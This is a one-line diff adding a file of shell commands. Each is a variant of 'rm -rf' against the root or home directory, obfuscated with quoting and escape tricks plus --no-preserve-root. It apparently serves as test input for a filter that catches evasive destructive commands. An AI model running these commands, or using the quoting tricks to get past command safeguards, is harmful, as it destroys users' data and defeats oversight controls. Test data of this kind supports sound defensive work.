@@ -1,0 +1,1 @@
+"rm" -rf /; \rm -rf ~; r''m -fr /; 'r'"m" -Rf --no-preserve-root /
